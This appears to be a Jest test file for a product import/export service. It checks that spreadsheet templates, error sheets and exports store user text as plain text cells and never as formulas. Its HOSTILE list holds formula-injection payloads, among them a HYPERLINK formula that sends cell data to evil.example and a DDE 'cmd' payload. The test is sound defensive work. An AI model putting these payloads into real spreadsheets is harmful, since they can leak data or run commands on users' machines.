import ExcelJS from 'exceljs';
import { IMPORT_COLUMNS, IMPORT_SHEET, type ImportColumn } from '@impeller/contracts';
import type { Agent } from '../../../test/agent.js';
import { eventually } from '../../../test/eventually.js';
import { aLine, drawPump, importZip, zipOf, type SheetLine } from '../../../test/import-zip.js';
import { readZip } from '../../../test/read-zip.js';
import { startImporting, type Importing } from '../product-import/import-harness.js';

jest.setTimeout(120_000);

/** What a spreadsheet might run, or lose. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '\r=1+2',
  '\n=1+3',
  '_x000D_=1+4',
  "'=1+5",
  '=1+6,"<b>&</b>',
] as const;
/** A text as a spreadsheet writes it into its file; the library that plays the spreadsheet here leaves that to others. */
const asTyped = (text: string) => text.replace(/_x(?=[0-9a-fA-F]{4}_)/g, '_x005F_x').replace(/\r/g, '_x000D_');
/** As cells of an import are read: space around them is gone. */
const names = HOSTILE.map((text, index) => `${text.trim()} (${index})`);

let on: Importing;
let pump: Buffer;
beforeAll(async () => {
  on = await startImporting();
  pump = await drawPump(1);
}, 90_000);
afterAll(() => on?.close());

const bytes = async (request: ReturnType<Agent['get']>): Promise<Buffer> => {
  const { body } = await request
    .expect(200)
    .buffer(true)
    .parse((response, done) => {
      const parts: Buffer[] = [];
      response.on('data', (part: Buffer) => parts.push(part)).on('end', () => done(null, Buffer.concat(parts)));
    });
  return body as Buffer;
};
const columnOf = (column: ImportColumn) => IMPORT_COLUMNS.indexOf(column) + 1;
const run = async (zip: Buffer) => {
  const { id } = await on.check(zip);
  await on.step(id, 'process');
  return on.until(id, 'done');
};
const packed = (xlsx: Buffer, images = {}) =>
  zipOf([
    { name: IMPORT_SHEET, content: xlsx },
    ...Object.entries<Buffer>(images).map(([name, content]) => ({ name: `import/images/${name}`, content })),
  ]);

/** Opens a workbook, after a look at its XML: no cell with a formula, every text in a text cell of the format Text. */
async function opened(xlsx: Buffer): Promise<ExcelJS.Workbook> {
  for (const [name, content] of await readZip(xlsx))
    if (name.startsWith('xl/worksheets/')) expect(content.toString()).not.toMatch(/<f[\s/>]/);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(xlsx as unknown as ArrayBuffer);
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell(({ type, numFmt, value }) => {
        if (typeof value === 'string') expect([type, numFmt]).toEqual([ExcelJS.ValueType.String, '@']);
        else expect(['number', 'boolean']).toContain(typeof value);
      }),
    ),
  );
  return book;
}

/** The texts of a column, as a spreadsheet shows them, without the rows above the first line. */
function textsOf(sheet: ExcelJS.Worksheet, column: number, head: number): string[] {
  const found = (sheet.getColumn(column).values as unknown[]).slice(1 + head).filter((value) => typeof value === 'string');
  return found.map((text) => text.replace(/_x([0-9a-fA-F]{4})_/g, (_, code: string) => String.fromCharCode(parseInt(code, 16))));
}

it('F8 the template shows every master as the text that it is', async () => {
  for (const table of ['brands', 'series', 'horse_powers'])
    await on.api.db.query(`INSERT INTO ${table} (name) SELECT unnest($1::text[])`, [HOSTILE]);
  const book = await opened(await bytes(on.staff.get('/api/product-imports/template')));
  for (const column of [1, 2, 3]) expect(textsOf(book.worksheets[1]!, column, 1).sort()).toEqual([...HOSTILE].sort());
});

it('F8 the sheet of errors gives every cell back as it came, and creates what it says once it is mended', async () => {
  const lines = names.map((name, index): SheetLine =>
    aLine(index, {
      name: asTyped(name),
      sku: `=SKU-${index}`,
      shortDescription: asTyped(HOSTILE[index]!),
      tags: asTyped(HOSTILE[index]!),
      unitPrice: 'dear',
      hsnCode: { formula: '42068785*2', result: '84137570' },
      images: 'a.jpg',
    }),
  );
  const { id, invalid, message } = await on.check(await importZip(lines, { 'a.jpg': pump }));
  expect({ invalid, message }).toEqual({ invalid: HOSTILE.length, message: null });
  const book = await opened(await bytes(on.staff.get(`/api/product-imports/${id}/errors`)));
  const sheet = book.worksheets[0]!;
  expect(textsOf(sheet, columnOf('name'), 2)).toEqual(names);
  expect(textsOf(sheet, columnOf('shortDescription'), 2)).toEqual(HOSTILE);
  expect(textsOf(sheet, columnOf('hsnCode'), 2)).toEqual(HOSTILE.map(() => '84137570'));
  for (let row = 3; row < 3 + HOSTILE.length; row += 1) sheet.getCell(row, columnOf('unitPrice')).value = 5_000;
  const mended = await packed(Buffer.from(await book.xlsx.writeBuffer()), { 'a.jpg': pump });
  expect(await run(mended)).toMatchObject({ created: HOSTILE.length, failed: 0 });
  const stored = await on.api.db.query<{ name: string; shortDescription: string }[]>(
    `SELECT name, "shortDescription" FROM products ORDER BY id`,
  );
  expect(stored).toEqual(HOSTILE.map((text, index) => ({ name: names[index], shortDescription: text.trim() })));
});

it.each(['xlsx', 'zip'])('F8 an export as %s holds texts, and imports as unchanged', async (format) => {
  // What a store may hold though nobody can import it.
  await on.api.db.query(`UPDATE products SET "shortDescription" = unnested.text
    FROM (SELECT * FROM unnest(ARRAY(SELECT id FROM products ORDER BY id), $1::text[]) AS u(id, text)) unnested WHERE unnested.id = products.id`, [HOSTILE]); // prettier-ignore
  await on.api.db.query(`UPDATE products SET "brandId" = (SELECT id FROM brands WHERE name = '+1')`);
  const zip = await exported(format);
  const sheet = (await opened((await readZip(zip)).get(IMPORT_SHEET)!)).worksheets[0]!;
  expect(textsOf(sheet, columnOf('name'), 2)).toEqual(names);
  expect(textsOf(sheet, columnOf('brand'), 2)).toEqual(names.map(() => '+1'));
  const all = `SELECT * FROM products ORDER BY id`;
  const before = await on.api.db.query(all);
  expect(await run(zip)).toMatchObject({ unchanged: HOSTILE.length, created: 0, updated: 0, failed: 0 });
  expect(await on.api.db.query(all)).toEqual(before);
});

/** The export, ready to be imported. */
async function exported(format: string): Promise<Buffer> {
  if (format === 'xlsx') return packed(await bytes(on.staff.post('/api/products/export').send({})));
  const { body } = await on.staff.post('/api/products/export').send({ format }).expect(202);
  const progress = await eventually(async () => {
    const { body: now } = await on.staff.get(`/api/exports/${body.id}`);
    expect(now.status).toBe('done');
    return now as { url: string };
  }, 60_000);
  return bytes(on.staff.get(progress.url));
}
